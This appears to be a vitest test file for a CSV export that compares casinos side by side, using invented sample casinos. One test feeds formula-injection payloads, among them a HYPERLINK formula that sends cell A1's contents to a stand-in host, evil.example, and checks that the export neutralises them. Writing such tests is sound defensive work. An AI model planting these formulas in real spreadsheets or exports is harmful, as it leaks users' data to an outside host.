import { expect, test } from 'vitest';
import { COLUMN, OTHER_COLUMN, ROW_GROUPS, UNKNOWN_COLUMN } from './example-columns.ts';
import { sideBySideCsv } from './side-by-side-csv.ts';

const ADDRESS = 'https://site.example/compare#ids=example,example-unknown';

/** Lines of the file, without its byte order mark. */
const linesOf = (...columns: Parameters<typeof sideBySideCsv>[0]) =>
  sideBySideCsv(columns, ROW_GROUPS, ADDRESS).slice(1).trimEnd().split('\r\n');

test('each row of the table is a line, with value, grade and day of each casino', () => {
  expect(linesOf(COLUMN, UNKNOWN_COLUMN)).toEqual([
    '"Subject","Fact","Example Casino","Grade of evidence","Read on","Unknown Casino","Grade of evidence","Read on"',
    '"The entry","Kind","Invented sample","","","Casino","",""',
    '"The entry","Our score of 5","4.3","","","Not rated","",""',
    '"The entry","Our word","Mixed","","","Not rated yet","",""',
    '"The offer","Name","Welcome bonus: 100% up to $100","","","No offer known","",""',
    '"The offer","Of 100 players","Of 100 players, 73 lose everything. Middle result $0; 24 leave with more than they put in.","","","No offer known.","",""',
    '"Money out","Withdrawal time","2 to 10 min","D","Nov 17, 2026","Not known","",""',
    '"Money out","Max payout","No Limit","D","Nov 17, 2026","Not known","",""',
    '"Safety","Who decides a dispute","A named independent body","D","Nov 17, 2026","Not known","",""',
    `"Address","${ADDRESS}"`,
  ]);
});

test('only a table with invented casinos says what kind its entries are', () => {
  const real = { ...COLUMN, isSample: false };
  expect(linesOf(real, { ...OTHER_COLUMN, isSample: false }).join()).not.toContain('Invented');
});

test('no name of a casino or an offer is read as a formula', () => {
  const name = '=HYPERLINK("https://evil.example/?x="&A1,"Ash")';
  const hostile = {
    ...COLUMN,
    name,
    outcome: { ...COLUMN.outcome, label: '+1+1', lead: '@SUM(A1:A9)' },
  };
  for (const line of linesOf(hostile, { ...hostile, name: '\t=1+1' })) {
    for (const [, start] of line.matchAll(/(?:^|,)"([^"])/g)) {
      expect(start).not.toMatch(/[=+\-@\t\r]/);
    }
  }
});
